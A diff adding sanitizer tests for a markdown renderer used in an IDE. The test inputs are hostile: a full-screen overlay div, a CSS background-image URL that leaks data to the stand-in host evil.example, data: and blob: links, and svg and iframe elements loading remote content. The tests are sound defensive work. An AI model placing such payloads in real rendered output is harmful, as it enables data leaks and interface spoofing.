@@ -61,4 +61,39 @@ describe('renderMarkdown', () => {
 		expect(root.querySelector('form, input, style')).toBeNull();
 		expect(root.textContent).toContain('ok');
 	});
+
+	it('keeps no style, class or id: nothing can be positioned over the IDE or load a URL', () => {
+		const html = renderMarkdown(
+			'<div style="position:fixed;inset:0;z-index:99999" class="ide-overlay" id="app">cover</div>\n\n' +
+				'<p style="background-image:url(https://evil.example/leak?k=1)">bg</p>'
+		);
+		const root = dom(html);
+		expect(root.querySelector('[style], [class], [id], div')).toBeNull();
+		expect(html).not.toContain('evil.example');
+		expect(root.textContent).toContain('cover');
+	});
+
+	it('keeps links to http(s) and mail only', () => {
+		const root = dom(
+			renderMarkdown(
+				'[a](data:text/html,x) [b](blob:https://x/y) [c](/project/p1) [d](mailto:a@b.c) [e](http://x.test/)'
+			)
+		);
+		const hrefs = [...root.querySelectorAll('a')].map((a) => a.getAttribute('href'));
+		expect(hrefs.filter(Boolean)).toEqual(['mailto:a@b.c', 'http://x.test/']);
+		for (const a of root.querySelectorAll('a[href]')) {
+			expect(a.getAttribute('rel')).toBe('noopener noreferrer');
+		}
+	});
+
+	it('drops raw svg, iframes and task-list inputs', () => {
+		const root = dom(
+			renderMarkdown(
+				'<svg><image href="https://evil.example/x"/></svg><iframe src="https://evil.example"></iframe>\n\n- [x] done\n- [ ] todo'
+			)
+		);
+		expect(root.querySelector('svg, image, iframe, input')).toBeNull();
+		expect(root.textContent).toContain('☑ done');
+		expect(root.textContent).toContain('☐ todo');
+	});
 });
